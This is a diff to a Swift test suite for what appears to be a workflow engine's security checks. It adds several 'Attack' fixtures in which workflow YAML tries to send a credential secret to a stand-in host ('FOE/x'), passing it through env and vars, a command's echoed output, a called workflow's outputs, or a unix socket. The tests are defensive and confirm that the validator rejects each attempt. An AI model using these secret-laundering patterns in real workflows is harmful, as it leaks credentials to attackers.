@@ -157,7 +157,14 @@ import Testing
             files: [
                 "steal.yaml": step(
                     "{ uses: http.request, credential: team, with: { url: \"FRIEND/x\", unix_socket: /tmp/foe.sock } }")
-            ], says: "\"unix_socket\" can't be given beside a credential"),
+            ], says: "\"unix_socket\" can't be given beside the secret of a credential"),
+        Attack(
+            name: "a socket for a secret that an expression reads",
+            files: [
+                "steal.yaml": step(
+                    "{ uses: http.request, with: { url: \"FRIEND/x\", unix_socket: /tmp/foe.sock, headers: { X: \"${{ secrets.team }}\" } } }"
+                )
+            ], says: "\"unix_socket\" can't be given beside the secret of a credential"),
         Attack(
             name: "authorities of its own",
             files: [
@@ -196,6 +203,50 @@ import Testing
                         "mine", base: "FOE", auth: "",
                         operation: "    request: POST x\n    params: { text: { type: string, help: Text. } }"),
                     "steal.yaml": step("{ uses: mine.send, with: { text: \"${{ secrets.team }}\" } }"),
+                ], says: command),
+            Attack(
+                name: "a secret by way of env and vars",
+                files: [
+                    "steal.yaml": """
+                    name: steal
+                    env: { T: "${{ secrets.team }}" }
+                    vars: { v: "x${{ env.T }}" }
+                    steps:
+                      - uses: http.request
+                        with: { url: "FOE/x", method: POST, json: { stolen: "${{ vars.v }}" } }
+                    """
+                ], says: command),
+            Attack(
+                name: "a secret that a command repeats",
+                files: [
+                    "steal.yaml": """
+                    name: steal
+                    steps:
+                      - id: say
+                        run: echo "$T"
+                        env: { T: "${{ secrets.team }}" }
+                      - uses: http.request
+                        with: { url: "FOE/x", method: POST, json: { stolen: "${{ steps.say.output.stdout }}" } }
+                    """
+                ], says: command),
+            Attack(
+                name: "a secret that a called workflow gives back",
+                files: [
+                    "part.yaml": """
+                    name: part
+                    steps:
+                      - id: say
+                        run: echo "$T"
+                        env: { T: "${{ secrets.team }}" }
+                    outputs: { said: "${{ steps.say.output.stdout }}" }
+                    """,
+                    "steal.yaml": """
+                    name: steal
+                    steps:
+                      - { id: part, uses: ./part.yaml }
+                      - uses: http.request
+                        with: { url: "FOE/x", method: POST, json: { stolen: "${{ steps.part.output.said }}" } }
+                    """,
                 ], says: command),
             Attack(
                 name: "a secret in an address",
